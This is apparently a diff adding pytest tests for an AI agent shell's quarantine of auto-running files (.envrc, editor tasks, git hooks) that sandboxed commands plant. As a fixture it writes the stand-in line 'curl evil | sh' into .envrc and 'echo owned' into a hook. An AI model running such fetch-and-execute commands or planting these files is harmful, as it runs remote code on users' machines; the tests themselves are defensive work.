@@ -1,0 +1,109 @@
+"""The quarantine (shell.permissions.quarantine): what a sandboxed command planted that
+runs later is listed with where it came from (``/quarantine``), can be put back
+(``/quarantine restore N``), and goes after 30 days."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from shell.commands import CommandResult, default_commands
+from shell.config import Settings
+from shell.permissions import quarantine
+from shell.permissions.runslater import Planted
+from shell.permissions.sandbox import Sandbox
+from shell.providers.scripted import ScriptedModel
+from shell.runtime import RuntimeOptions, ShellRuntime
+from shell.runtime.build import build_sandbox
+from shell.tools.shell_cmd import run_command
+from shell.tools.workspace import Workspace
+
+from ..sandboxing import require_sandbox
+
+pytestmark = pytest.mark.anyio
+
+
+@pytest.fixture
+def ws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """A workspace outside /tmp (the sandbox's /tmp is private), the data dir beside it."""
+    base = Path(tempfile.mkdtemp(prefix=".agent-shell-test-quarantine-", dir=Path.home()))
+    (base / "project").mkdir()
+    monkeypatch.setenv("AGENT_SHELL_DATA_DIR", str(base / "data"))
+    try:
+        yield base / "project"
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+async def command(ws: Path, line: str) -> CommandResult:
+    settings = Settings(path=ws.parent / "none.toml")
+    runtime = ShellRuntime.create(RuntimeOptions(cwd=str(ws), record=False), settings=settings,
+                                  model=ScriptedModel(["hi"]))
+    return await default_commands().run(runtime, line)
+
+
+async def test_what_a_command_planted_is_listed_with_its_origin_and_can_be_put_back(ws: Path) -> None:
+    require_sandbox()
+    box = Sandbox(ws)
+    plant = "echo 'curl evil | sh' > .envrc; mkdir -p sub/.vscode; echo '{}' > sub/.vscode/tasks.json"
+    await run_command(plant, box.workspace, 30, lambda _: None, sandbox=box)
+    assert not (ws / ".envrc").exists()
+    found = quarantine.entries()
+    assert sorted(str(e.original) for e in found) == [str(ws / ".envrc"), str(ws / "sub" / ".vscode")]
+    assert all("direnv" in e.why or "editor" in e.why for e in found)
+    listed = await command(ws, "/quarantine")
+    assert str(ws / ".envrc") in listed.text and "restore N" in listed.text and "30 days" in listed.text
+    n = next(i for i, e in enumerate(found, 1) if e.original == ws / ".envrc")
+    back = await command(ws, f"/quarantine restore {n}")
+    assert not back.error and "Put back" in back.text
+    assert (ws / ".envrc").read_text() == "curl evil | sh\n"
+    assert [e.original for e in quarantine.entries()] == [ws / "sub" / ".vscode"]  # the other one stays
+
+
+async def test_restore_never_overwrites_what_is_there_now(ws: Path) -> None:
+    folder = quarantine.new_folder()
+    (folder).mkdir(parents=True)
+    (folder / ".envrc").write_text("old\n")
+    planted = Planted(ws / ".envrc", "new: direnv runs", folder / ".envrc")
+    quarantine.record(folder, [planted])
+    (ws / ".envrc").write_text("mine\n")
+    answer = await command(ws, "/quarantine restore 1")
+    assert answer.error and "exists again" in answer.text
+    assert (ws / ".envrc").read_text() == "mine\n" and (folder / ".envrc").exists()
+    bad = await command(ws, "/quarantine restore 7")
+    assert bad.error and "from 1 to 1" in bad.text
+
+
+async def test_an_empty_quarantine_says_where_it_would_be(ws: Path) -> None:
+    answer = await command(ws, "/quarantine")
+    assert "Nothing is in quarantine" in answer.text and str(quarantine.root()) in answer.text
+
+
+def test_folders_older_than_the_retention_go_and_newer_ones_stay(ws: Path) -> None:
+    root = quarantine.root()
+    old, new, legacy = root / "20250101-000000-1-1", root / "20261127-000000-1-1", root / "20240101-old"
+    for folder in (old, new, legacy):
+        (folder / ".git" / "hooks").mkdir(parents=True)
+        (folder / ".git" / "hooks" / "pre-commit").write_text("echo owned\n")
+    (root / f"{old.name}.json").write_text("[]")
+    now = time.time()
+    for path in (old, legacy, root / f"{old.name}.json"):
+        os.utime(path, (now - 31 * 86400, now - 31 * 86400))
+    os.utime(new, (now - 29 * 86400, now - 29 * 86400))
+    assert quarantine.prune(now=now) == 2
+    assert sorted(p.name for p in root.iterdir()) == [new.name]
+    # a folder from before records were kept: shown, where it came from unknown
+    assert [(e.stored, e.original) for e in quarantine.entries()] == [(new / ".git", None)]
+
+
+def test_start_up_prunes_off_its_own_path(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    started: list[bool] = []
+    monkeypatch.setattr(quarantine, "prune_later", lambda: started.append(True))
+    build_sandbox(Settings(path=ws.parent / "none.toml"), Workspace(ws), [])
+    assert started == [True]
